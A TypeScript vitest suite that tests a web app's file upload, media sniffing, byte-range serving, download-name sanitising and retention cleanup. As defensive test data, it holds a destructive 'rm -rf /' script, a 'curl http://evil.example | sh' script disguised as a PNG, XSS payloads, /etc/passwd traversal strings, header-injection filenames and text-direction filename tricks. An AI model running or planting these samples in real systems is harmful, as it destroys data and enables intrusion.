import { execFileSync } from 'node:child_process';
import { promises as fs, mkdtempSync, readFileSync, utimesSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resetEnvForTests } from '@/lib/server/env';
import { errorResponse } from '@/lib/server/envelope';
import { ApiError } from '@/lib/server/errors';
import { putFile, readStoredFile, statStoredFile, fileIdsIn, ownFileId } from '@/lib/server/files';
import { blobPath, filesRoot, metaPath } from '@/lib/server/files/blob-store';
import { attachmentHeader, sanitiseFileName } from '@/lib/server/files/disposition';
import { handleFile, handleUpload } from '@/lib/server/files/http';
import { parseRange } from '@/lib/server/files/range';
import { cleanupFiles } from '@/lib/server/files/retention';
import { sniffMedia } from '@/lib/server/files/sniff';
import { log } from '@/lib/server/log';
import { providers } from '@/lib/server/providers';
import type { RawContext } from '@/lib/server/raw-endpoint';
import { onAbort } from '@/lib/server/incoming';

/**
 * The file store, uploads and file serving, on a real folder with real media made by
 * ffmpeg (Debian) from a fixture photo and a sine tone.
 */
const work = mkdtempSync(path.join(os.tmpdir(), 'prism-files-'));
const dataDir = path.join(work, 'data');
const media: Record<string, Buffer> = {};

beforeAll(() => {
  process.env.DATA_DIR = dataDir;
  process.env.UPLOAD_MAX_BYTES = String(64 * 1024);
  resetEnvForTests();
  const photo = path.resolve('tests/fixtures/image/camera.jpg');
  media.jpg = readFileSync(photo);
  const ffmpeg = (args: string[], out: string) => {
    execFileSync('ffmpeg', ['-v', 'error', '-y', ...args, path.join(work, out)]);
    media[out.split('.')[1]!] = readFileSync(path.join(work, out));
  };
  for (const ext of ['png', 'webp', 'gif']) ffmpeg(['-i', photo, '-vf', 'scale=32:32'], `x.${ext}`);
  ffmpeg(['-i', photo, '-vf', 'scale=32:32', '-frames:v', '1', '-c:v', 'libaom-av1', '-still-picture', '1'], 'x.avif');
  for (const ext of ['wav', 'mp3', 'flac', 'm4a']) ffmpeg(['-f', 'lavfi', '-i', 'sine=d=0.2'], `x.${ext}`);
  ffmpeg(['-f', 'lavfi', '-i', 'sine=d=0.2', '-c:a', 'libvorbis'], 'x.ogg');
});

afterAll(async () => {
  delete process.env.UPLOAD_MAX_BYTES;
  delete process.env.DATA_DIR;
  resetEnvForTests();
  await fs.rm(work, { recursive: true, force: true });
});

function ctx(request: Request, params: Record<string, string> = {}): RawContext {
  return {
    requestId: 'test',
    signal: request.signal,
    onHangUp: (listener) => onAbort(request.signal, listener),
    origin: 'http://studio.test',
    caller: { kind: 'owner', accountId: null, credentialId: null, scope: null },
    log,
    provider: providers(),
    request,
    params,
  };
}

async function upload(body: BodyInit, headers: Record<string, string> = {}, query = ''): Promise<Response> {
  const request = new Request(`http://studio.test/api/uploads${query}`, { method: 'POST', body, headers });
  try {
    return await handleUpload(ctx(request));
  } catch (error) {
    if (error instanceof ApiError) return errorResponse(error, {}, 'test-request');
    throw error;
  }
}

function form(bytes: Uint8Array, name: string, type: string): FormData {
  const data = new FormData();
  data.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
  return data;
}

async function get(id: string, headers: Record<string, string> = {}, query = '', method = 'GET'): Promise<Response> {
  const request = new Request(`http://studio.test/api/files/${encodeURIComponent(id)}${query}`, { method, headers });
  try {
    return await handleFile(ctx(request, { id }));
  } catch (error) {
    if (error instanceof ApiError) return errorResponse(error, {}, 'test-request');
    throw error;
  }
}

describe('sniffing', () => {
  it.each([
    ['jpg', 'image/jpeg'],
    ['png', 'image/png'],
    ['webp', 'image/webp'],
    ['avif', 'image/avif'],
    ['gif', 'image/gif'],
    ['wav', 'audio/wav'],
    ['mp3', 'audio/mpeg'],
    ['ogg', 'audio/ogg'],
    ['flac', 'audio/flac'],
    ['m4a', 'audio/mp4'],
  ])('accepts real %s as %s', async (ext, type) => {
    expect((await sniffMedia(media[ext]!)).media?.contentType).toBe(type);
  });

  it.each([
    ['a shell script', Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n')],
    ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n')],
    ['a zip', Buffer.from('504b0304140000000800', 'hex')],
  ])('refuses %s', async (_name, bytes) => {
    expect((await sniffMedia(bytes)).media).toBeNull();
  });
});

describe('POST /api/uploads', () => {
  it('stores a multipart image and answers id, absolute url, sniffed type and size', async () => {
    // Declared as text/plain with a .txt name: the bytes decide.
    const response = await upload(form(media.png!, 'holiday.txt', 'text/plain'));
    expect(response.status).toBe(200);
    const body = await response.json();
    expect(body.status).toBe(true);
    expect(body.result).toMatchObject({ content_type: 'image/png', size: media.png!.byteLength });
    expect(body.result.id).toMatch(/^[a-f0-9]{64}$/);
    expect(body.result.url).toBe(`http://studio.test/api/files/${body.result.id}`);
    const stored = await readStoredFile(body.result.id);
    expect(stored?.bytes.equals(media.png!)).toBe(true);
    expect(stored?.file.kind).toBe('upload');
    expect(stored?.file.name).toBe('holiday.txt');
  });

  it('stores a raw body, with ?name= as the download name', async () => {
    const response = await upload(new Uint8Array(media.mp3!), { 'content-type': 'application/octet-stream' }, '?name=tone.mp3');
    const body = await response.json();
    expect(response.status).toBe(200);
    expect(body.result.content_type).toBe('audio/mpeg');
    expect((await statStoredFile(body.result.id))?.file.name).toBe('tone.mp3');
  });

  it('refuses a script renamed .png with 415, naming the field', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    for (const response of [
      await upload(form(script, 'photo.png', 'image/png')),
      await upload(new Uint8Array(script), { 'content-type': 'image/png' }, '?name=photo.png'),
    ]) {
      expect(response.status).toBe(415);
      const body = await response.json();
      expect(body).toEqual({
        status: false,
        message: 'file: must be an image (JPEG, PNG, WebP, AVIF, GIF) or audio (WAV, MP3, OGG, FLAC, M4A); the bytes are not a known image or audio format',
        code: 'unsupported_media_type',
        result: {},
        request_id: 'test-request',
      });
    }
    const pdf = await upload(form(Buffer.from('%PDF-1.7\n%\xe2\xe3\n1 0 obj <<>> endobj\n'), 'x.png', 'image/png'));
    expect(pdf.status).toBe(415);
    expect((await pdf.json()).message).toContain('the bytes are application/pdf');
  });

  it('refuses an oversized file with 413 (declared or streamed)', async () => {
    const big = Buffer.concat([media.wav!, Buffer.alloc(80 * 1024)]);
    const declared = await upload(new Uint8Array(big), { 'content-type': 'audio/wav' });
    expect(declared.status).toBe(413);
    expect((await declared.json()).message).toBe('file: must be at most 64 KB');
    // A streamed body with no length: refused when the count passes the cap.
    const streamed = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < 20; i += 1) controller.enqueue(new Uint8Array(8 * 1024));
        controller.close();
      },
    });
    const request = new Request('http://studio.test/api/uploads', { method: 'POST', body: streamed, duplex: 'half' } as RequestInit);
    await expect(handleUpload(ctx(request))).rejects.toMatchObject({ status: 413 });
  });

  it('answers 400 when the client breaks the body off mid-upload, and stores nothing', async () => {
    const before = await fs.readdir(filesRoot(dataDir)).catch(() => []);
    const broken = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new Uint8Array(media.png!.subarray(0, 64)));
        controller.error(new Error('connection reset'));
      },
    });
    const request = new Request('http://studio.test/api/uploads', { method: 'POST', body: broken, duplex: 'half' } as RequestInit);
    await expect(handleUpload(ctx(request))).rejects.toMatchObject({ status: 400, message: 'body: the connection closed before the whole body arrived' });
    expect(await fs.readdir(filesRoot(dataDir)).catch(() => [])).toEqual(before);
    expect(await fs.readdir(path.join(filesRoot(dataDir), 'incoming')).catch(() => [])).toEqual([]);
  });

  it('refuses an empty body, a form without file and a broken form with 400 naming the field', async () => {
    expect((await (await upload(new Uint8Array(0))).json()).message).toBe('file: is empty');
    const noFile = new FormData();
    noFile.append('image', 'hello');
    const missing = await upload(noFile);
    expect(missing.status).toBe(400);
    expect((await missing.json()).message).toBe('file: is required (a multipart field named "file")');
    const text = new FormData();
    text.append('file', 'just text');
    expect((await (await upload(text)).json()).message).toBe('file: must be a file, not a text field');
    const broken = await upload('--x\r\nnonsense', { 'content-type': 'multipart/form-data; boundary=zzz' });
    expect(broken.status).toBe(400);
    expect((await broken.json()).message).toBe('body: is not a valid multipart form');
    const unbounded = await upload('--zzz\r\nnonsense', { 'content-type': 'multipart/form-data' });
    expect(unbounded.status).toBe(400);
    expect((await unbounded.json()).message).toBe('body: is not a valid multipart form (its Content-Type names no boundary)');
  });

  it('says a form has too many parts, rather than that its file is missing', async () => {
    const parts = Array.from({ length: 150 }, (_, i) => `--zzz\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\nx\r\n`).join('') + '--zzz--\r\n';
    const answer = await upload(parts, { 'content-type': 'multipart/form-data; boundary=zzz' });
    expect(answer.status).toBe(400);
    expect((await answer.json()).message).toBe('body: a form may hold at most 50 text fields; send the file alone');
  });

  it('refuses a form cut off inside its file (no closing boundary) with 400, storing nothing', async () => {
    const before = await fs.readdir(filesRoot(dataDir)).catch(() => []);
    const cut = Buffer.concat([
      Buffer.from('--zzz\r\nContent-Disposition: form-data; name="file"; filename="song.wav"\r\nContent-Type: audio/wav\r\n\r\n'),
      media.wav!.subarray(0, 2000),
    ]);
    const answer = await upload(cut, { 'content-type': 'multipart/form-data; boundary=zzz' });
    expect(answer.status).toBe(400);
    expect(await answer.json()).toMatchObject({ code: 'invalid_input', message: 'body: is not a valid multipart form' });
    expect(await fs.readdir(filesRoot(dataDir)).catch(() => [])).toEqual(before);
    expect(await fs.readdir(path.join(filesRoot(dataDir), 'incoming')).catch(() => [])).toEqual([]);
  });
});

describe('GET /api/files/<id>', () => {
  let id: string;
  beforeAll(async () => {
    id = (await putFile(media.wav!, { contentType: 'audio/wav', name: 'Chanson d’été.wav', kind: 'result' })).id;
  });

  it('serves the bytes with type, ETag, immutable caching and nosniff', async () => {
    const response = await get(id);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('audio/wav');
    expect(response.headers.get('etag')).toBe(`"${id}"`);
    expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('accept-ranges')).toBe('bytes');
    expect(response.headers.get('content-length')).toBe(String(media.wav!.byteLength));
    expect(response.headers.get('content-disposition')).toBeNull();
    expect(Buffer.from(await response.arrayBuffer()).equals(media.wav!)).toBe(true);
  });

  it('answers 304 to a matching If-None-Match, 200 otherwise', async () => {
    for (const tag of [`"${id}"`, `W/"${id}"`, `"nope", "${id}"`, '*']) {
      const response = await get(id, { 'if-none-match': tag });
      expect(response.status, tag).toBe(304);
      expect(response.headers.get('etag')).toBe(`"${id}"`);
      expect(await response.text()).toBe('');
    }
    expect((await get(id, { 'if-none-match': '"other"' })).status).toBe(200);
  });

  it('serves byte ranges (206) and refuses unsatisfiable ones (416)', async () => {
    const size = media.wav!.byteLength;
    const first = await get(id, { range: 'bytes=0-99' });
    expect(first.status).toBe(206);
    expect(first.headers.get('content-range')).toBe(`bytes 0-99/${size}`);
    expect(first.headers.get('content-length')).toBe('100');
    expect(Buffer.from(await first.arrayBuffer()).equals(media.wav!.subarray(0, 100))).toBe(true);

    const tail = await get(id, { range: 'bytes=-10' });
    expect(tail.headers.get('content-range')).toBe(`bytes ${size - 10}-${size - 1}/${size}`);
    expect(Buffer.from(await tail.arrayBuffer()).equals(media.wav!.subarray(size - 10))).toBe(true);

    const open = await get(id, { range: `bytes=${size - 5}-` });
    expect((await open.arrayBuffer()).byteLength).toBe(5);

    for (const bad of [`bytes=${size}-`, `bytes=${size + 10}-${size + 20}`, 'bytes=50-10', 'bytes=-0', 'bytes=abc']) {
      const response = await get(id, { range: bad });
      expect(response.status, bad).toBe(416);
      expect(response.headers.get('content-range')).toBe(`bytes */${size}`);
      expect(await response.json()).toMatchObject({ status: false, code: 'range_not_satisfiable' });
    }
    // Another unit, several ranges, or an If-Range for another version: the whole file.
    expect((await get(id, { range: 'items=0-1' })).status).toBe(200);
    expect((await get(id, { range: 'bytes=0-1,5-6' })).status).toBe(200);
    expect((await get(id, { range: 'bytes=0-1', 'if-range': '"old"' })).status).toBe(200);
    expect((await get(id, { range: 'bytes=0-1', 'if-range': `"${id}"` })).status).toBe(206);
  });

  it('HEAD answers the headers without a body', async () => {
    const response = await get(id, {}, '', 'HEAD');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-length')).toBe(String(media.wav!.byteLength));
    expect(await response.text()).toBe('');
  });

  it('adds an attachment Content-Disposition on ?download, sanitised, RFC 5987 for non-ASCII', async () => {
    const stored = await get(id, {}, '?download=1');
    expect(stored.headers.get('content-disposition')).toBe(
      `attachment; filename="Chanson d__t_.wav"; filename*=UTF-8''Chanson%20d%E2%80%99%C3%A9t%C3%A9.wav`,
    );
    const named = await get(id, {}, `?download=${encodeURIComponent('../../etc/"passwd"\r\nX-Evil: 1')}`);
    expect(named.headers.get('content-disposition')).toBe('attachment; filename="_.._etc_passwd X-Evil 1.wav"');
    const plain = await get(id, {}, '?download=my%20song');
    expect(plain.headers.get('content-disposition')).toBe('attachment; filename="my song.wav"');
    expect((await get(id, {}, '?download=0')).headers.get('content-disposition')).toBeNull();
  });

  it.each([
    '../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '....//....//etc/passwd',
    '/etc/passwd',
    'a'.repeat(63),
    `${'a'.repeat(64)}/../../../etc/passwd`,
    `${'A'.repeat(64)}`,
    '',
  ])('never turns %s into a path: 404 envelope', async (attempt) => {
    const response = await get(attempt);
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ status: false, message: 'No file with that id.', code: 'not_found', result: {}, request_id: expect.any(String) });
  });
});

describe('helpers', () => {
  it('parses ranges as RFC 9110 says', () => {
    expect(parseRange(null, 10)).toBeNull();
    expect(parseRange('bytes=0-0', 10)).toEqual({ start: 0, end: 0 });
    expect(parseRange('bytes=2-100', 10)).toEqual({ start: 2, end: 9 });
    expect(parseRange('bytes=-100', 10)).toEqual({ start: 0, end: 9 });
    expect(parseRange('bytes=10-', 10)).toBe('unsatisfiable');
    expect(parseRange('bytes=0-', 0)).toBe('unsatisfiable');
  });

  it('sanitises download names', () => {
    expect(sanitiseFileName('..\\..\\boot.ini', 'bin')).toBe('_.._boot.ini');
    expect(sanitiseFileName('.hidden', 'png')).toBe('hidden.png');
    expect(sanitiseFileName('', 'png')).toBe('download.png');
    expect(sanitiseFileName('x'.repeat(400) + '.flac', 'bin')).toHaveLength(150);
    expect(sanitiseFileName('x'.repeat(400) + '.flac', 'bin').endsWith('.flac')).toBe(true);
    expect(attachmentHeader('日本語.png')).toBe(`attachment; filename="___.png"; filename*=UTF-8''%E6%97%A5%E6%9C%AC%E8%AA%9E.png`);
  });

  it('gives a download name the extension of what the bytes are, and no text-direction tricks', () => {
    // U+202E shows "\u202egpj.exe" as "exe.jpg": the override goes, and the JPEG stays a .jpg.
    expect(sanitiseFileName('\u202egpj.exe', 'jpg')).toBe('gpj.exe.jpg');
    expect(sanitiseFileName('photo\u2066.png\u2069.exe', 'png')).toBe('photo.png.exe.png');
    expect(sanitiseFileName('invoice.exe', 'jpg')).toBe('invoice.exe.jpg');
    expect(sanitiseFileName('"; filename="evil.exe', 'png')).toBe('filename=evil.exe.png');
    // The type's own extension, in any case, or another name for the same type, is kept.
    expect(sanitiseFileName('Holiday.JPEG', 'jpg')).toBe('Holiday.JPEG');
    expect(sanitiseFileName('song.mp3', 'mp3')).toBe('song.mp3');
    expect(sanitiseFileName('theme.midi', 'mid')).toBe('theme.midi');
    // Bytes of no known type make no claim: the name's own extension stays.
    expect(sanitiseFileName('notes.ini', 'bin')).toBe('notes.ini');
    const long = sanitiseFileName(`${'x'.repeat(400)}.exe`, 'png');
    expect(long).toHaveLength(150);
    expect(long.endsWith('.png')).toBe(true);
  });

  it('finds our file ids in values and URLs', () => {
    const a = 'a'.repeat(64);
    expect([...fileIdsIn({ audio: `https://x.test/api/files/${a}`, nested: [{ id: 'b'.repeat(64) }] })].sort()).toEqual([a, 'b'.repeat(64)]);
    expect(ownFileId(`/api/files/${a}?download=1`)).toBe(a);
    expect(ownFileId(`/api/files/${a}/../x`)).toBeNull();
  });
});

describe('retention', () => {
  it('removes old unreferenced files per kind, keeps referenced and recent ones, 0 keeps forever', async () => {
    const root = filesRoot(dataDir);
    const day = 24 * 60 * 60 * 1000;
    const now = Date.now();
    const age = (id: string, days: number) => {
      const when = new Date(now - days * day);
      utimesSync(metaPath(root, id), when, when);
    };
    const oldResult = await putFile(Buffer.from('old result'), { contentType: 'text/plain', kind: 'result' });
    const oldUpload = await putFile(Buffer.from('old upload'), { contentType: 'text/plain', kind: 'upload' });
    const referenced = await putFile(Buffer.from('old but used by a job'), { contentType: 'text/plain', kind: 'result' });
    const fresh = await putFile(Buffer.from('fresh result'), { contentType: 'text/plain', kind: 'result' });
    age(oldResult.id, 10);
    age(oldUpload.id, 3);
    age(referenced.id, 40);
    age(fresh.id, 1);

    const report = await cleanupFiles({ root, policy: { resultDays: 7, uploadDays: 2 }, isReferenced: (id) => id === referenced.id, now });
    expect(report.removedIds.sort()).toEqual([oldResult.id, oldUpload.id].sort());
    expect(report.kept).toBe(1);
    expect(await readStoredFile(oldResult.id)).toBeNull();
    await expect(fs.access(blobPath(root, oldResult.id))).rejects.toThrow();
    expect(await readStoredFile(referenced.id)).not.toBeNull();
    expect(await readStoredFile(fresh.id)).not.toBeNull();

    // Storing the same bytes again renews a file; 0 days keeps a kind forever.
    age(fresh.id, 30);
    await putFile(Buffer.from('fresh result'), { contentType: 'text/plain', kind: 'result' });
    const again = await cleanupFiles({ root, policy: { resultDays: 7, uploadDays: 0 }, isReferenced: () => false, now });
    expect(again.removedIds).not.toContain(fresh.id);
    const forever = await putFile(Buffer.from('kept forever'), { contentType: 'text/plain', kind: 'upload' });
    age(forever.id, 3650);
    await cleanupFiles({ root, policy: { resultDays: 7, uploadDays: 0 }, isReferenced: () => false, now });
    expect(await readStoredFile(forever.id)).not.toBeNull();
  });
});
